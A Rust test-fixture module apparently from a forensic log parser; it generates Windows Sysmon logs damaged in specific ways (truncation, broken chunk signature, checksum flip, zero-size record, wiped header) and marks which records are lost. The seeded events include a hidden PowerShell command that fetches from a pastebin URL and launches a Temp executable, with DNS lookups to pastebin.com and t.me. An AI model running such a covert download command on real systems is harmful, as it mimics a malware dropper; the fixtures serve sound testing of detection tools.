//! Logs that are broken, each in one way, with matches before and after the damage.
//!
//! What is lost follows from where the records lie. The broken file is never read for it.

use crate::damage;
use crate::error::Error;
use crate::event::Event;
use crate::story::journal::{EXPLORER, Journal, Log, SYSMON_LOG, morning};
use crate::truth::{SampleFile, SampleRecord, matches_seed};

const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const TEMPORARY: &str = r"C:\Windows\Temp\upd.exe";

pub(super) fn files() -> Result<Vec<SampleFile>, Error> {
    Ok(vec![
        truncated()?,
        bad_chunk_magic()?,
        bad_checksum()?,
        record_of_size_zero()?,
        destroyed_file_header()?,
        healthy_neighbour()?,
        not_a_log("Security.evtx", ""),
        not_a_log("Application.evtx", "This is a note that someone gave the name of an event log.\n"),
    ])
}

/// Makes a Sysmon log of `chunks` chunks, each with routine events, a match, more routine events,
/// another match and more routine events. The first match of a chunk is of a process that is
/// created in the chunk before, if there is one, and the second of a child of this process.
fn sysmon_log(host: &str, chunks: u64) -> Result<SampleFile, Error> {
    let mut log = Log::live("damaged", host, SYSMON_LOG);
    let mut journal = Journal::new(host, "user", morning(), 1_000);
    let explorer = journal.running(EXPLORER, 4880);
    let command_line = "powershell.exe -w hidden -c iwr https://pastebin.com/raw/Zq81";
    let powershell = Event::process_create(POWERSHELL, command_line, EXPLORER).of_process(6120);
    let temporary = Event::process_create(TEMPORARY, TEMPORARY, POWERSHELL).of_process(6248);
    let mut process = journal.start_between(1_500, &explorer, powershell.clone());
    for chunk in 0..chunks {
        journal.routine(22);
        let query = Event::dns_query("pastebin.com", POWERSHELL).answered("0", "::ffff:203.0.113.10;");
        journal.add_of(4, &process, query);
        let child = journal.start_between(1_500, &process, temporary.clone());
        journal.routine(22);
        journal.add_of(4, &child, Event::dns_query("t.me", TEMPORARY).answered("0", "::ffff:203.0.113.99;"));
        if chunk + 1 < chunks {
            process = journal.start_between(1_500, &explorer, powershell.clone());
        }
        journal.routine(8);
        log.push(journal.take())?;
        log.writer.end_chunk();
    }
    Ok(log.finish())
}

fn lose(file: &mut SampleFile, lost: impl Fn(&SampleRecord) -> bool) {
    for record in &mut file.records {
        record.lost = lost(record);
    }
}

/// Makes the log of DMG-WS01: the copy stopped in the middle of the second chunk. Records that lie
/// wholly before the cut remain.
fn truncated() -> Result<SampleFile, Error> {
    let mut file = sysmon_log("DMG-WS01", 2)?;
    damage::truncate_in_chunk(&mut file.bytes, 1, 30_000)?;
    let end = file.bytes.len();
    lose(&mut file, |record| record.place.offset + record.place.size > end);
    Ok(file)
}

/// Makes the log of DMG-WS02: the second of three chunks has lost its signature.
fn bad_chunk_magic() -> Result<SampleFile, Error> {
    let mut file = sysmon_log("DMG-WS02", 3)?;
    damage::break_chunk_magic(&mut file.bytes, 1)?;
    lose(&mut file, |record| record.place.chunk == 1);
    Ok(file)
}

/// Makes the log of DMG-WS03: one byte in the first chunk has changed, in the text of a record that
/// is no DNS query. The checksum shows it; every record can still be read.
fn bad_checksum() -> Result<SampleFile, Error> {
    let mut file = sysmon_log("DMG-WS03", 2)?;
    let bystander =
        file.records.iter().rposition(|record| record.place.chunk == 0 && record.event.event_id != 22);
    let record = bystander.unwrap_or_default();
    // The value stored last is User, and its text includes the byte sixteen bytes before the
    // record's end.
    let size = file.records.get(record).map_or(0, |record| record.place.size);
    damage::flip_record_byte(&mut file.bytes, 0, record, size - 20)?;
    Ok(file)
}

/// Makes the log of DMG-WS04: a record in the first chunk, a match, states the size zero. A reader
/// that looks for the next record after it loses only this one.
fn record_of_size_zero() -> Result<SampleFile, Error> {
    let mut file = sysmon_log("DMG-WS04", 2)?;
    let matching =
        file.records.iter().rposition(|record| record.place.chunk == 0 && matches_seed(&record.event));
    let index = matching.unwrap_or_default();
    damage::zero_record_size(&mut file.bytes, 0, index)?;
    if let Some(record) = file.records.get_mut(index) {
        record.lost = true;
    }
    Ok(file)
}

/// Makes the log of DMG-WS05: the file header is all zeros. No record needs anything from it.
fn destroyed_file_header() -> Result<SampleFile, Error> {
    let mut file = sysmon_log("DMG-WS05", 2)?;
    damage::destroy_file_header(&mut file.bytes);
    Ok(file)
}

/// Makes the log of DMG-WS06: an intact log, which lies next to two files that are no logs.
fn healthy_neighbour() -> Result<SampleFile, Error> {
    sysmon_log("DMG-WS06", 1)
}

fn not_a_log(name: &str, text: &str) -> SampleFile {
    SampleFile {
        path: format!("damaged/DMG-WS06/Windows/System32/winevt/Logs/{name}"),
        bytes: text.as_bytes().to_vec(),
        style: None,
        records: Vec::new(),
    }
}
